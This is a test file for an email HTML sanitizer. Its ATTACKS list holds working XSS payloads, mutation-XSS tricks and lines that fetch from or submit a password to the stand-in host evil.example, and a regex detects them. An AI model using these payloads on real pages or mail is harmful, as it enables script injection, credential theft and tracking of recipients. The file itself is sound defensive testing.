"""A mail's HTML is shown without anything that acts, fetches, or covers what is ours."""

import re

import pytest

from mailgate.ingest.safe_html import safe_html

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=cid:a onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    "<svg onload=alert(1)><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<iframe src=https://evil.example></iframe><object data=x></object><embed src=x>",
    "<base href=//evil.example><link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=password><button>ok</button></form>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<body onload=alert(1) background=https://evil.example/x.png>",
    "<table background=https://evil.example/x.png><tr><td background=https://evil.example/y.png>x</table>",
    '<div style="background:url(https://evil.example/x.png)">x</div>',
    '<div style="background-color:red;background-image:u\\72l(https://evil.example/x.png)">x</div>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
    '<div style="color:expression(alert(1))">x</div>',
    "<video poster=https://evil.example/x.png src=https://evil.example/x.mp4></video>",
    '<img src="cid:a" srcset="https://evil.example/x.png 2x">',
    "<img src='https://evil.example/x.png'>",
    "<img src='//evil.example/x.png'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<!--[if mso]><img src=https://evil.example/x.png><![endif]-->",
    "<a href=x onclick=alert(1) onmouseover=alert(1)>x</a>",
    "<template><img src=x onerror=alert(1)></template>",
    "<img src='cid:a\" onerror=\"alert(1)'>",
    "<p id=ours class=ours name=ours>x</p>",
]
ACTS = re.compile(
    r"<\s*(?:script|style|svg|math|iframe|object|embed|base|link|meta|form|input|button|video|audio|template)\b"
    r"|<[^>]*\s(?:on\w+|srcset|background|poster|action|id|class|name)\s*=|javascript:|vbscript:|data:|url\(|expression"
    r"|position|src=\"(?!cid:)",
    re.IGNORECASE,
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_acts_or_fetches_goes(attack: str) -> None:
    shown = safe_html(f"<p>före</p>{attack}<p>efter</p>")
    assert ACTS.search(shown) is None, shown
    assert "före" in shown


def test_what_a_letter_is_made_of_stays() -> None:
    letter = (
        '<h2>Lön</h2><p style="color:red">Se <b>tabellen</b>:</p><table border="1"><tbody><tr><td colspan="2">100</td>'
        '</tr></tbody></table><ul><li>ett</li></ul><blockquote type="cite">förr</blockquote>'
    )
    assert safe_html(letter) == letter


def test_images_in_the_mail_stay_and_remote_ones_leave_their_text() -> None:
    shown = safe_html('<img src="cid:logo@kund" alt="logo"><img src="https://spy.example/1.gif" alt="spår">')
    assert 'src="cid:logo@kund"' in shown
    assert "spy.example" not in shown
    assert 'alt="spår"' in shown


def test_links_lead_out_without_telling_from_where() -> None:
    shown = safe_html('<a href="https://kund.example/">här</a>')
    assert 'href="https://kund.example/"' in shown
    assert 'rel="noopener noreferrer nofollow"' in shown


@pytest.mark.parametrize(
    "monster",
    ["<div>a" * 50_000, "".join(f"<font color={n}>" for n in range(900)) + "<p>a" * 50_000, "<b>a" * 50_000],
    ids=["deep", "reopened", "bold"],
)
def test_monstrous_markup_is_shown_as_its_text(monster: str) -> None:
    shown = safe_html(monster)
    assert shown.startswith("<p>")
    assert shown.count("a") == 50_000
    assert len(shown) < 1_000_000


def test_text_that_looks_like_markup_stays_text() -> None:
    assert safe_html("&lt;script&gt;alert(1)&lt;/script&gt;") == "&lt;script&gt;alert(1)&lt;/script&gt;"
